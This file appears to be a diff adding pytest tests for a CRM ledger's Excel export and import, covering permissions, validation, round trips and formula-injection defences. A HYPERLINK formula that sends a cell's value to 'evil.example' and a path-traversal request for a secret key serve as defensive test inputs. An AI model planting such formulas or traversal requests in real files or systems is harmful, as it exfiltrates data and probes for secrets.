@@ -1,0 +1,554 @@
+"""The ledger (项目台账): export to .xlsx, the import template, import with preview and
+confirmation, permissions, formula injection, round trips."""
+
+from __future__ import annotations
+
+import io
+import re
+from datetime import date, datetime, timedelta
+from decimal import Decimal
+
+import pytest
+import sqlalchemy as sa
+from openpyxl import Workbook, load_workbook
+
+from crm.audit.models import AuditEntry
+from crm.companies.models import Company
+from crm.ledger.columns import COLUMNS
+from crm.ledger.services import plan_import, read_workbook
+from crm.projects import lifecycle
+from crm.projects.lifecycle import move_stage
+from crm.projects.models import ConflictBasis, Project, ProjectConflict, StageChange
+from crm.projects.stages import Stage
+from tests import factories
+from tests.factories import today
+
+HEADERS = [c.header for c in COLUMNS]
+INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+
+
+@pytest.fixture(autouse=True)
+def no_entry_checks(monkeypatch):
+    monkeypatch.setattr(lifecycle, "_entry_checks", {stage: [] for stage in Stage})
+
+
+@pytest.fixture(autouse=True)
+def import_folder(app, tmp_path, monkeypatch):
+    """Uploads kept between preview and confirmation go to a temporary instance folder."""
+    monkeypatch.setattr(app, "instance_path", str(tmp_path))
+    return tmp_path / "ledger_imports"
+
+
+def text(response) -> str:
+    return response.get_data(as_text=True)
+
+
+def count(db_session, model) -> int:
+    return db_session.scalar(sa.select(sa.func.count()).select_from(model))
+
+
+def xlsx(rows: list[dict], headers: list[str] | None = None, formulas=()) -> bytes:
+    """A workbook with a header row and one row per dict (keyed by header)."""
+    headers = headers or HEADERS
+    wb = Workbook()
+    ws = wb.active
+    ws.append(headers)
+    for r, row in enumerate(rows, 2):
+        for c, h in enumerate(headers, 1):
+            cell = ws.cell(r, c, row.get(h))
+            if isinstance(cell.value, str):
+                cell.data_type = "s"  # text as typed, even "=..." (formulas come separately)
+    for cell, formula in formulas:
+        ws[cell] = formula  # a real formula cell
+    out = io.BytesIO()
+    wb.save(out)
+    return out.getvalue()
+
+
+def new_row(world, n: int, **overrides) -> dict:
+    row = {
+        "项目名称": f"导入项目{n}",
+        "企业名称": f"导入企业{n}有限公司",
+        "统一社会信用代码": factories.credit_code(900000 + n),
+        "企业来源地": "省外",
+        "载体": world.carrier_a.name,
+        "产业集群": world.cluster_x.name,
+        "招商渠道": world.channel.name,
+        "责任人": world.officer_a.display_name,
+        "重点项目": "否",
+        "阶段": "招引",
+        "总投资（万元）": 12345.67,
+        "固定资产投资（万元）": 10000,
+        "用地面积（亩）": 88.5,
+        "预计新增就业（人）": 120,
+        "计划签约日期": date(2030, 3, 1),
+        "计划开工日期": "2030-06-01",
+        "项目简介": "新建生产线",
+    }
+    row.update(overrides)
+    return row
+
+
+def upload(client, data: bytes, name="台账.xlsx"):
+    return client.post(
+        "/ledger/import",
+        data={"file": (io.BytesIO(data), name)},
+        content_type="multipart/form-data",
+    )
+
+
+def preview(client, data: bytes):
+    """Upload, then open the preview: (its URL, its HTML)."""
+    response = upload(client, data)
+    assert response.status_code == 302, text(response)[:2000]
+    url = response.headers["Location"]
+    page = client.get(url)
+    assert page.status_code == 200
+    return url, text(page)
+
+
+def import_file(client, data: bytes):
+    url, _html = preview(client, data)
+    return client.post(url, data={"confirm": "y"})
+
+
+def export(client, query: str = "") -> tuple:
+    response = client.get("/ledger/export" + query)
+    assert response.status_code == 200
+    return response, load_workbook(io.BytesIO(response.data))
+
+
+def sheet_rows(wb) -> list[dict]:
+    ws = wb.worksheets[0]
+    rows = list(ws.iter_rows(values_only=True))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+# Export --------------------------------------------------------------------------------------
+
+
+def test_the_export_is_a_ledger_of_the_filtered_list(world, login, db_session):
+    project = world.project_a
+    project.planned_signed_on = date(2030, 1, 15)
+    project.fixed_asset_investment = Decimal("1234.5")
+    move_stage(world.officer_a, project, Stage.ATTRACTING)
+    db_session.commit()
+    client = login(world.admin)
+    response, wb = export(client, "?stage=ATTRACTING")
+
+    assert response.mimetype.endswith("spreadsheetml.sheet")
+    assert response.headers["Cache-Control"] == "no-store"
+    assert "filename*=UTF-8''" in response.headers["Content-Disposition"]
+    ws = wb.worksheets[0]
+    assert ws.title == "项目台账"
+    assert [c.value for c in ws[1]] == HEADERS
+    assert ws.freeze_panes == "A2"
+    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(HEADERS)).column_letter}2"
+    (row,) = sheet_rows(wb)  # only the project in 招引
+    assert row["项目编号"] == project.id
+    assert row["项目名称"] == project.name
+    assert row["载体"] == world.carrier_a.name
+    assert row["阶段"] == "招引"
+    assert row["总投资（万元）"] == 50000
+    assert row["固定资产投资（万元）"] == 1234.5
+    assert row["计划签约日期"] == datetime(2030, 1, 15)
+    cells = {c.value: i for i, c in enumerate(ws[1])}
+    money = ws.cell(2, cells["总投资（万元）"] + 1)
+    assert money.data_type == "n" and money.number_format == "#,##0.00"
+    assert ws.cell(2, cells["计划签约日期"] + 1).number_format == "yyyy-mm-dd"
+    assert ws.cell(2, cells["登记时间"] + 1).is_date
+
+    info = {r[0]: r[1] for r in wb.worksheets[1].iter_rows(values_only=True)}
+    assert wb.worksheets[1].title == "导出信息"
+    assert info["阶段"] == "招引"
+    assert info["项目数"] == "1"
+    assert world.admin.display_name in info["导出人"]
+    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d（北京时间）", info["导出时间"])
+
+    entry = db_session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "ledger_exported"))
+    assert entry.user_id == world.admin.id
+    assert entry.changes["filter"] == {"stage": "ATTRACTING"}
+
+
+def test_the_list_offers_the_export_with_its_filters(world, login, db_session):
+    html = text(login(world.officer_a).get("/projects/?stage=PLANNED&key=1"))
+    assert 'href="/ledger/export?stage=PLANNED&amp;key=1"' in html
+    assert "导入台账" in html
+    assert "导入台账" not in text(login(world.leader).get("/projects/"))
+
+
+@pytest.mark.parametrize(
+    ("role", "names"),
+    [
+        ("officer_a", {"甲区光伏组件项目"}),
+        ("officer_b", {"乙县中药饮片项目"}),
+        ("taskforce_y", {"乙县中药饮片项目"}),
+        ("leader", {"甲区光伏组件项目", "乙县中药饮片项目"}),
+    ],
+)
+def test_the_export_holds_only_what_the_user_may_read(world, login, role, names):
+    _response, wb = export(login(getattr(world, role)))
+    assert {r["项目名称"] for r in sheet_rows(wb)} == names
+
+
+def test_the_export_needs_a_login(client):
+    response = client.get("/ledger/export")
+    assert response.status_code == 302 and response.headers["Location"].startswith("/login")
+
+
+def test_exported_text_never_becomes_a_formula(world, login, db_session):
+    world.project_a.name = INJECTION
+    world.project_a.description = "+1 -2 @SUM(A1)"
+    world.project_a.company.name = "=1+1"
+    db_session.commit()
+    _response, wb = export(login(world.admin))
+    ws = wb.worksheets[0]
+    for row in ws.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type != "f", cell.coordinate
+    cells = {c.value: i + 1 for i, c in enumerate(ws[1])}
+    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value == world.project_a.id)
+    name = ws.cell(row, cells["项目名称"])
+    assert name.value == INJECTION and name.data_type == "s" and name.quotePrefix
+    assert ws.cell(row, cells["企业名称"]).quotePrefix
+    assert ws.cell(row, cells["项目简介"]).value == "+1 -2 @SUM(A1)"
+
+
+# The template --------------------------------------------------------------------------------
+
+
+def test_the_template_has_the_headers_and_the_allowed_values(world, login, db_session):
+    factories.chain(world.cluster_x, "光伏")
+    db_session.commit()
+    response = login(world.officer_a).get("/ledger/template")
+    assert response.status_code == 200
+    assert response.headers["Cache-Control"] == "no-store"
+    wb = load_workbook(io.BytesIO(response.data))
+    assert [c.value for c in wb["项目台账"][1]] == HEADERS
+    values = {
+        col[0].value: [c.value for c in col[1:] if c.value] for col in wb["可选值"].iter_cols()
+    }
+    assert values["载体"] == [world.carrier_a.name]  # an officer imports into its own only
+    assert set(values["产业集群"]) == {world.cluster_x.name, world.cluster_y.name}
+    assert values["招商渠道"] == [world.channel.name]
+    assert values["阶段"] == ["谋划", "招引"]
+    assert "光伏" in values["产业链"]
+    assert wb["项目台账"].data_validations.dataValidation
+    assert "填写说明" in wb.sheetnames
+    admin_values = load_workbook(io.BytesIO(login(world.admin).get("/ledger/template").data))
+    assert [c.value for c in admin_values["可选值"]["A"][1:3]] == [
+        world.carrier_a.name,
+        world.carrier_b.name,
+    ]
+
+
+# Import: the happy path and the round trips --------------------------------------------------
+
+
+def test_an_import_is_previewed_then_confirmed(world, login, db_session):
+    client = login(world.officer_a)
+    data = xlsx([new_row(world, 1), new_row(world, 2, 阶段="")])
+    url, html = preview(client, data)
+    assert "新建 <strong>2</strong> 个项目（新登记企业 2 家）" in html
+    assert count(db_session, Project) == 2  # nothing written by the preview
+
+    response = client.post(url, data={})
+    assert response.status_code == 400
+    assert "请勾选确认后再导入" in text(response)
+    assert count(db_session, Project) == 2
+
+    response = client.post(url, data={"confirm": "y"})
+    assert response.status_code == 302
+    db_session.expire_all()
+    first = db_session.scalar(sa.select(Project).where(Project.name == "导入项目1"))
+    second = db_session.scalar(sa.select(Project).where(Project.name == "导入项目2"))
+    assert first.stage is Stage.ATTRACTING and second.stage is Stage.PLANNED
+    assert first.carrier_id == world.carrier_a.id and first.officer_id == world.officer_a.id
+    assert first.total_investment == Decimal("12345.67")
+    assert first.land_area == Decimal("88.50") and first.expected_jobs == 120
+    assert first.planned_signed_on == date(2030, 3, 1)
+    assert first.planned_started_on == date(2030, 6, 1)
+    assert first.company.credit_code == factories.credit_code(900001)
+    assert first.company.registered_by_carrier_id == world.carrier_a.id
+    assert first.company.name_key == "导入企业1"
+    history = db_session.scalars(
+        sa.select(StageChange).where(StageChange.project_id == first.id)
+    ).all()
+    assert [(c.from_stage, c.to_stage) for c in history] == [(None, Stage.ATTRACTING)]
+    actions = set(db_session.scalars(sa.select(AuditEntry.action)))
+    assert {"ledger_imported", "project_created", "company_created"} <= actions
+    # The kept upload is gone: confirming twice does nothing.
+    again = client.post(url, data={"confirm": "y"})
+    assert again.status_code == 302 and again.headers["Location"] == "/ledger/import"
+    assert count(db_session, Project) == 4
+
+
+def test_export_then_import_changes_nothing(world, login, db_session):
+    move_stage(world.officer_a, world.project_a, Stage.ATTRACTING)
+    move_stage(
+        world.officer_a,
+        world.project_a,
+        Stage.SIGNED,
+        fields={"signed_amount": Decimal(100), "signed_on": today()},
+    )
+    world.project_a.description = '含有逗号,引号"和换行\n的简介'
+    world.project_a.fixed_asset_investment = Decimal("0.1")
+    db_session.commit()
+    client = login(world.admin)
+    _response, wb = export(client)
+    first = sheet_rows(wb)
+    before = {p.id: (p.version, p.updated_at) for p in db_session.scalars(sa.select(Project))}
+    out = io.BytesIO()
+    wb.save(out)
+
+    url, html = preview(client, out.getvalue())
+    assert "无变化 2 个" in html
+    assert client.post(url, data={"confirm": "y"}).status_code == 302
+    db_session.expire_all()
+    after = {p.id: (p.version, p.updated_at) for p in db_session.scalars(sa.select(Project))}
+    assert after == before
+    assert count(db_session, Project) == 2 and count(db_session, Company) == 2
+    _response, wb = export(client)
+    assert sheet_rows(wb) == first
+
+
+def test_imported_rows_come_back_out_equal(world, login, db_session):
+    client = login(world.officer_a)
+    rows = [new_row(world, n) for n in range(1, 4)]
+    assert import_file(client, xlsx(rows)).status_code == 302
+    _response, wb = export(client, "?q=导入项目")
+    exported = {r["项目名称"]: r for r in sheet_rows(wb)}
+    for row in rows:
+        out = exported[row["项目名称"]]
+        for header, value in row.items():
+            if isinstance(value, date):
+                value = datetime.combine(value, datetime.min.time())
+            elif header == "计划开工日期":
+                value = datetime.fromisoformat(value)
+            assert out[header] == value, header
+
+
+def test_importing_the_same_file_twice_does_not_duplicate(world, login, db_session):
+    client = login(world.officer_a)
+    data = xlsx([new_row(world, 1), new_row(world, 2, 统一社会信用代码=None, 企业来源地="境外")])
+    assert import_file(client, data).status_code == 302
+    projects, companies = count(db_session, Project), count(db_session, Company)
+    url, html = preview(client, data)
+    assert "新建 <strong>0</strong> 个项目" in html and "无变化 2 个" in html
+    assert client.post(url, data={"confirm": "y"}).status_code == 302
+    assert (count(db_session, Project), count(db_session, Company)) == (projects, companies)
+
+
+def test_a_changed_row_updates_its_project(world, login, db_session):
+    client = login(world.officer_a)
+    assert import_file(client, xlsx([new_row(world, 1)])).status_code == 302
+    changed = new_row(world, 1, **{"总投资（万元）": "20,000", "重点项目": "是"})
+    url, html = preview(client, xlsx([changed]))
+    assert "更新 <strong>1</strong> 个" in html
+    assert re.search(r"<td>(重点项目、总投资（万元）|总投资（万元）、重点项目)</td>", html)
+    assert client.post(url, data={"confirm": "y"}).status_code == 302
+    db_session.expire_all()
+    project = db_session.scalar(sa.select(Project).where(Project.name == "导入项目1"))
+    assert project.total_investment == Decimal(20000) and project.is_key
+    assert project.version == 2
+    entry = db_session.scalar(
+        sa.select(AuditEntry).where(
+            AuditEntry.action == "project_updated", AuditEntry.object_id == project.id
+        )
+    )
+    assert entry.changes["total_investment"] == ["12345.67", "20000"]
+
+
+def test_an_import_flags_companies_courted_by_another_carrier(world, login, db_session):
+    courted = world.project_b.company
+    client = login(world.officer_a)
+    row = new_row(
+        world, 1, 企业名称=courted.name, 统一社会信用代码=courted.credit_code, 企业来源地=""
+    )
+    url, html = preview(client, xlsx([row]))
+    assert "其他载体正在跟进该企业" in html and world.project_b.name in html
+    assert client.post(url, data={"confirm": "y"}).status_code == 302
+    (conflict,) = db_session.scalars(sa.select(ProjectConflict)).all()
+    assert conflict.other_project_id == world.project_b.id
+    assert conflict.basis is ConflictBasis.CREDIT_CODE
+    assert count(db_session, Company) == 2  # the company is reused, not duplicated
+
+
+# Import: bad rows -----------------------------------------------------------------------------
+
+
+BAD_ROWS = [
+    ({"载体": "乙县"}, "载体", "招商专员只能导入本载体（甲区）的项目"),
+    ({"总投资（万元）": "一百万"}, "总投资（万元）", "应填写数字（单位：万元），“一百万”不是数字"),
+    ({"总投资（万元）": None}, "总投资（万元）", "请填写总投资（万元）"),
+    ({"用地面积（亩）": -5}, "用地面积（亩）", "不能为负数"),
+    ({"预计新增就业（人）": 1.5}, "预计新增就业（人）", "应为整数"),
+    ({"统一社会信用代码": "91341600000000001X"}, "统一社会信用代码", "校验位不正确"),
+    ({"统一社会信用代码": "123"}, "统一社会信用代码", "应为 18 位"),
+    ({"阶段": "签约"}, "阶段", "新项目不能导入为“签约”：只能为谋划或招引"),
+    ({"阶段": "投产"}, "阶段", "新项目不能导入为“投产”"),
+    ({"状态": "终止"}, "状态", "新项目的状态只能为正常"),
+    ({"产业集群": "不存在的集群"}, "产业集群", "没有名为“不存在的集群”的产业集群"),
+    ({"产业链": "光伏"}, "产业链", "不是新能源的产业链"),
+    ({"招商渠道": ""}, "招商渠道", "请填写招商渠道"),
+    ({"责任人": "张三"}, "责任人", "“张三”不是甲区的在岗招商专员"),
+    ({"重点项目": "也许"}, "重点项目", "请填写“是”或“否”"),
+    ({"计划签约日期": "明年"}, "计划签约日期", "不是有效日期"),
+    ({"计划开工日期": "2020-01-01"}, "计划开工日期", "计划开工日期不能早于计划签约日期"),
+    ({"固定资产投资（万元）": 99999}, "固定资产投资（万元）", "固定资产投资不能大于总投资"),
+    ({"项目名称": INJECTION}, "项目名称", "不能以“=”开头（疑似公式）"),
+    ({"企业来源地": ""}, "企业来源地", "新企业须填写企业来源地"),
+    ({"项目编号": 999999}, "项目编号", "项目编号 999999 不存在或不在您的权限范围内"),
+]
+
+
+@pytest.mark.parametrize(("change", "column", "message"), BAD_ROWS)
+def test_a_bad_row_is_reported_and_nothing_is_written(
+    world, login, db_session, change, column, message
+):
+    client = login(world.officer_a)
+    data = xlsx([new_row(world, 1), new_row(world, 2, **change)])
+    url, html = preview(client, data)
+    match = re.search(
+        r'<td class="num">3</td><td>' + re.escape(column) + r"</td><td>([^<]*)</td>", html
+    )
+    assert match, html[html.find("需要修改") : html.find("需要修改") + 1500]
+    assert message in match.group(1)
+    assert "确认导入" not in html
+    assert client.post(url, data={"confirm": "y"}).status_code == 400
+    assert count(db_session, Project) == 2 and count(db_session, Company) == 2
+
+
+def test_a_formula_cell_is_refused(world, login, db_session):
+    client = login(world.officer_a)
+    data = xlsx([new_row(world, 1)], formulas=[("B2", INJECTION), ("P2", "=1+1")])
+    _url, html = preview(client, data)
+    assert "<td>项目名称</td><td>不能包含公式，请填写数值或文字</td>" in html
+    assert "<td>总投资（万元）</td><td>不能包含公式，请填写数值或文字</td>" in html
+
+
+def test_duplicate_rows_in_one_file_are_reported(world, login, db_session):
+    client = login(world.officer_a)
+    data = xlsx([new_row(world, 1), new_row(world, 2), new_row(world, 1, 项目简介="又一行")])
+    _url, html = preview(client, data)
+    assert "<td>项目名称</td><td>与第 2 行重复（同一企业、同一项目）</td>" in html
+
+
+def test_an_existing_project_keeps_its_stage_status_and_carrier(world, login, db_session):
+    project = world.project_a
+    db_session.commit()
+    client = login(world.admin)
+    _response, wb = export(client, f"?carrier={world.carrier_a.id}")
+    ws = wb.worksheets[0]
+    cells = {c.value: i + 1 for i, c in enumerate(ws[1])}
+    ws.cell(2, cells["阶段"]).value = "签约"
+    ws.cell(2, cells["状态"]).value = "终止"
+    ws.cell(2, cells["载体"]).value = world.carrier_b.name
+    out = io.BytesIO()
+    wb.save(out)
+    _url, html = preview(client, out.getvalue())
+    assert "导入不能变更阶段（系统中为“谋划”）" in html
+    assert "导入不能变更状态（系统中为“正常”）" in html
+    assert "导入不能变更项目所属载体" in html
+    db_session.expire_all()
+    assert project.stage is Stage.PLANNED
+
+
+def test_unreadable_files_and_missing_headers(world, login, db_session):
+    client = login(world.officer_a)
+    response = upload(client, b"not a spreadsheet", "x.xlsx")
+    assert response.status_code == 400 and "无法读取该文件" in text(response)
+    response = upload(client, xlsx([{"项目名称": "x"}], headers=["项目名称", "备注"]))
+    assert response.status_code == 400 and "表头缺少必填列" in text(response)
+    response = upload(client, xlsx([]))
+    assert response.status_code == 400 and "没有数据行" in text(response)
+
+
+# Import: permissions and the kept upload -----------------------------------------------------
+
+
+@pytest.mark.parametrize("role", ["leader", "taskforce_x"])
+def test_only_officers_and_admins_import(world, login, role):
+    client = login(getattr(world, role))
+    assert client.get("/ledger/import").status_code == 403
+    assert client.get("/ledger/template").status_code == 403
+    assert upload(client, xlsx([new_row(world, 1)])).status_code == 403
+
+
+def test_an_upload_belongs_to_its_user(world, login, db_session):
+    url, _html = preview(login(world.officer_a), xlsx([new_row(world, 1)]))
+    other = login(world.admin)
+    response = other.get(url)
+    assert response.status_code == 302 and response.headers["Location"] == "/ledger/import"
+    assert other.post(url, data={"confirm": "y"}).status_code == 302
+    assert count(db_session, Project) == 2
+    assert login(world.admin).get("/ledger/import/../../secret_key").status_code == 404
+
+
+def test_an_officer_cannot_update_another_carriers_project(world, login, db_session):
+    row = new_row(world, 1, 项目编号=world.project_b.id)
+    _url, html = preview(login(world.officer_a), xlsx([row]))
+    assert f"项目编号 {world.project_b.id} 不存在或不在您的权限范围内" in html
+
+
+def test_the_admin_imports_into_any_carrier(world, login, db_session):
+    client = login(world.admin)
+    row = new_row(world, 1, 载体=world.carrier_b.name, 责任人=world.officer_b.username)
+    assert import_file(client, xlsx([row])).status_code == 302
+    project = db_session.scalar(sa.select(Project).where(Project.name == "导入项目1"))
+    assert project.carrier_id == world.carrier_b.id and project.officer_id == world.officer_b.id
+    assert project.company.registered_by_carrier_id is None
+
+
+# Bulk work -----------------------------------------------------------------------------------
+
+
+def test_an_import_runs_the_same_statements_for_20_and_200_rows(world, db_session, count_queries):
+    def run(first: int, n: int) -> int:
+        rows = read_workbook(io.BytesIO(xlsx([new_row(world, i) for i in range(first, first + n)])))
+        with count_queries() as counter:
+            from crm.ledger.services import apply_import
+
+            plan = plan_import(world.officer_a, rows)
+            assert plan.ok, plan.errors[:3]
+            apply_import(world.officer_a, plan, "x.xlsx")
+        return counter.count
+
+    assert run(1, 20) == run(100, 200)
+    assert count(db_session, Project) == 222
+
+
+def test_old_uploads_are_removed(world, login, import_folder):
+    client = login(world.officer_a)
+    preview(client, xlsx([new_row(world, 1)]))
+    (kept,) = import_folder.glob("*.json")
+    old = datetime.now().timestamp() - timedelta(hours=3).total_seconds()
+    import os
+
+    os.utime(kept, (old, old))
+    preview(client, xlsx([new_row(world, 2)]))
+    assert kept not in list(import_folder.glob("*.json"))
+    assert oct(next(import_folder.glob("*.json")).stat().st_mode & 0o777) == "0o600"
+
+
+def test_a_company_without_a_code_in_the_file_is_found_by_its_name(world, login, db_session):
+    known = world.project_a.company  # registered with a credit code
+    client = login(world.officer_a)
+    row = new_row(world, 1, 企业名称=known.name, 统一社会信用代码=None, 企业来源地="")
+    url, html = preview(client, xlsx([row, new_row(world, 2, 载体="乙县")]))
+    assert "新建 <strong>1</strong> 个项目（新登记企业 0 家）" in html  # the row in error aside
+    url, html = preview(client, xlsx([row]))
+    assert "新建 <strong>1</strong> 个项目（新登记企业 0 家）" in html
+    assert client.post(url, data={"confirm": "y"}).status_code == 302
+    created = db_session.scalar(sa.select(Project).where(Project.name == "导入项目1"))
+    assert created.company_id == known.id
+    assert count(db_session, Company) == 2
+
+
+def test_a_name_several_companies_share_needs_the_code(world, login, db_session):
+    factories.company(name="同名企业有限公司")
+    factories.company(name="同名企业有限公司")
+    db_session.commit()
+    row = new_row(world, 1, 企业名称="同名企业有限公司", 统一社会信用代码=None)
+    _url, html = preview(login(world.officer_a), xlsx([row]))
+    assert "库中有多家同名企业，请填写统一社会信用代码" in html
